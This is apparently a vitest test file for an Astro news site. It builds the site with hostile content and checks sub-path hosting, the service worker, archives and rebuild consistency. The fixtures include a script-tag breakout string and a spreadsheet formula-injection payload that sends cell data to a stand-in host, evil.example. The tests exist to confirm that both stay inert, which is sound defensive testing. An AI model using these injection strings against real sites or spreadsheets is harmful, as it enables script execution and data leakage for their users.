// Two builds from the project itself, shared by every test here:
// 1. hostile content (script in front matter, a formula in a label) served under a sub-path of
//    another origin: content stays data, and every link, asset, worker and archive respects the base;
// 2. then the real content again, which must equal the clean build in dist/: a content store left
//    by another content folder can never strip anchors or notes from a green build.
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, existsSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { parse } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { astroEnv, distDir, htmlFiles, removeContentStore, root, runAstro } from '../support/site';

// English text takes curly quotes (the content index refuses straight ones), so the attacks do too:
// what they test is markup and formula injection, which the quotes do not change.
const attack = '</script><script>alert(‘J1’)</script>';
const formula = '=HYPERLINK(“http://evil.example/?”&A1,“click”)';
const base = '/special/striving/';
let dir = '';
let hostileOut = '';
let againOut = '';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'striving-fixture-'));
  const content = join(dir, 'content');
  cpSync(join(root, 'content'), content, { recursive: true });
  const story = join(content, 'stories/en/li-junqi.mdx');
  writeFileSync(story, readFileSync(story, 'utf8').replace(/^description: .*$/m, `description: "Recently${attack} more"`));
  const section = join(content, 'sections/zh/union-reform.mdx');
  writeFileSync(section, readFileSync(section, 'utf8').replace(/^title: (.*)$/m, `title: "$1${attack}"`));
  const ledger = join(content, 'figures.json');
  const figures = JSON.parse(readFileSync(ledger, 'utf8')) as { id: string; en: { label: string } }[];
  for (const f of figures) if (f.id === 'members-new') f.en.label = formula;
  writeFileSync(ledger, JSON.stringify(figures, null, 2));
  hostileOut = join(dir, 'hostile');
  const hostile = await runAstro(['build'], {
    cwd: root,
    env: astroEnv({ OUT_DIR: hostileOut, CONTENT_DIR: content, BASE_PATH: base, SITE_URL: 'https://news.example.com' }),
  });
  if (hostile.status !== 0) throw new Error(`hostile-content build failed:\n${hostile.output}`);
  // The content store of that folder, written with the same settings as the clean build (a change
  // of settings clears Astro's store, which would hide a stale one): then the real content again.
  const sync = await runAstro(['sync'], { cwd: root, env: astroEnv({ CONTENT_DIR: content, SITE_URL: 'http://localhost:4321' }) });
  if (sync.status !== 0) throw new Error(`sync of the fixture content failed:\n${sync.output}`);
  againOut = join(dir, 'again');
  const again = await runAstro(['build'], { cwd: root, env: astroEnv({ OUT_DIR: againOut, SITE_URL: 'http://localhost:4321' }) });
  if (again.status !== 0) throw new Error(`the build after the fixture failed:\n${again.output}`);
});

afterAll(() => {
  if (!dir) return;
  removeContentStore(join(dir, 'content'));
  rmSync(dir, { recursive: true, force: true });
});

describe('content that carries script', () => {
  it('never ends the JSON-LD element, so nothing after it runs', () => {
    for (const file of ['en/stories/li-junqi/index.html', 'zh/union-reform/index.html']) {
      const page = parse(readFileSync(join(hostileOut, file), 'utf8'));
      const ld = page.querySelectorAll('script[type="application/ld+json"]');
      expect(ld, file).toHaveLength(1);
      expect(ld[0]?.rawText, file).toContain('\\u003c/script>');
      // The text arrives intact, as data.
      expect(JSON.stringify(JSON.parse(ld[0]?.rawText ?? '{}')), file).toContain('</script><script>alert(‘J1’)');
    }
  });

  it('leaves no script on any page that the page did not put there, and keeps the policy in <head>', () => {
    for (const file of htmlFiles(hostileOut, hostileOut)) {
      const page = parse(readFileSync(join(hostileOut, file), 'utf8'));
      // In an attribute (the meta description) the text is inert; as an element it would run.
      expect(
        page.querySelectorAll('script').filter((el) => el.rawText.includes('alert(‘J1’)') && !/json/.test(el.getAttribute('type') ?? '')),
        file,
      ).toEqual([]);
      expect(page.querySelector('head meta[http-equiv="content-security-policy"]'), file).not.toBeNull();
      expect(page.querySelector('body meta[http-equiv="content-security-policy"]'), file).toBeNull();
    }
  });

  it('exports a formula-like label to CSV as text', () => {
    const csv = readFileSync(join(hostileOut, 'figures.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(“http://evil.example/?”&A1,“click”)"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe(`hosted under a sub-path (${base})`, () => {
  it('prefixes every root-relative link and asset with the base, and each one exists', () => {
    const problems: string[] = [];
    const files = htmlFiles(hostileOut, hostileOut);
    for (const file of files) {
      const html = readFileSync(join(hostileOut, file), 'utf8');
      for (const match of html.matchAll(/\s(?:href|src|action)="(\/[^"#?]*)/g)) {
        const url = match[1] ?? '';
        if (!url.startsWith(base)) {
          problems.push(`${file}: ${url} ignores the base`);
          continue;
        }
        const local = join(hostileOut, url.slice(base.length));
        if (!existsSync(local)) problems.push(`${file}: ${url} does not exist`);
      }
    }
    expect(files.length).toBeGreaterThan(40);
    expect(problems).toEqual([]);
  });

  it('uses the configured site URL and base in canonical links and the sitemap', () => {
    const page = readFileSync(join(hostileOut, 'en/union-reform/index.html'), 'utf8');
    expect(page).toContain('<link rel="canonical" href="https://news.example.com/special/striving/en/union-reform/"');
    expect(readFileSync(join(hostileOut, 'sitemap.xml'), 'utf8')).toContain('<loc>https://news.example.com/special/striving/zh/</loc>');
    expect(readFileSync(join(hostileOut, 'manifest.webmanifest'), 'utf8')).toContain('"start_url":"/special/striving/"');
  });

  it('scopes the service worker and its list of offline files to the base', () => {
    const worker = readFileSync(join(hostileOut, 'sw.js'), 'utf8');
    expect(worker).toContain('"/special/striving/"');
    expect(worker).toContain('striving:');
    const files = JSON.parse(readFileSync(join(hostileOut, 'offline-manifest.json'), 'utf8')) as Record<
      string,
      string[] | Record<string, string[]>
    >;
    const urls = Object.values(files).flatMap((v) => (Array.isArray(v) ? v : Object.values(v).flat()));
    expect(urls.length).toBeGreaterThan(40);
    expect(urls.filter((u) => !u.startsWith(base))).toEqual([]);
  });

  it('makes an archive whose links are relative, without the hosted base path', () => {
    const zipName = readdirSync(join(hostileOut, 'downloads')).find((f) => f.endsWith('.zip')) ?? '';
    const zip = unzipSync(readFileSync(join(hostileOut, 'downloads', zipName)));
    const page = new TextDecoder().decode(Object.entries(zip).find(([name]) => name.endsWith('/en/union-reform/index.html'))?.[1]);
    expect(page).toContain('href="../about/index.html"');
    expect(page).not.toMatch(/(?:href|src)="\/special\/striving\//);
  });

  it('puts the base into the chart catalogue, the embed code and _headers', () => {
    const catalogue = JSON.parse(readFileSync(join(hostileOut, 'charts.json'), 'utf8')) as { embed: { zh: string }; data: string }[];
    expect(catalogue[0]?.embed.zh).toMatch(/^\/special\/striving\/zh\/embed\//);
    expect(catalogue[0]?.data).toMatch(/^\/special\/striving\/embed\//);
    const oembed = JSON.parse(readFileSync(join(hostileOut, 'zh/embed/organising/oembed.json'), 'utf8')) as { html: string };
    expect(oembed.html).toContain('src="https://news.example.com/special/striving/zh/embed/organising/"');
    expect(oembed.html).toContain('src="https://news.example.com/special/striving/embed/loader.js"');
    const headers = readFileSync(join(hostileOut, '_headers'), 'utf8');
    expect(headers).toMatch(/^\/special\/striving\/zh\/embed\/\*$/m);
    expect(headers).not.toMatch(/^\/(?!special\/striving\/)/m);
  });
});

describe('a build after a build of another content folder', () => {
  /** What the content pipeline adds to a page: paragraph anchors, note blocks and markers. */
  const marks = (html: string) => ({
    anchors: (html.match(/\sdata-para(?=[\s>])/g) ?? []).length,
    notes: (html.match(/class="para-notes/g) ?? []).length,
    refs: (html.match(/data-note-ref/g) ?? []).length,
  });

  it('equals the clean build: every page keeps its anchors and notes', () => {
    const pages = htmlFiles(distDir, distDir).filter((f) => !f.startsWith('downloads/'));
    expect(pages.length).toBeGreaterThan(100);
    const differ = pages.filter(
      (file) =>
        JSON.stringify(marks(readFileSync(join(againOut, file), 'utf8'))) !==
        JSON.stringify(marks(readFileSync(join(distDir, file), 'utf8'))),
    );
    expect(differ).toEqual([]);
    const total = pages.reduce((n, file) => n + marks(readFileSync(join(distDir, file), 'utf8')).anchors, 0);
    // 644 paragraph anchors on 112 pages (counted as attributes, not in script text).
    expect(total).toBeGreaterThan(600);
  });
});
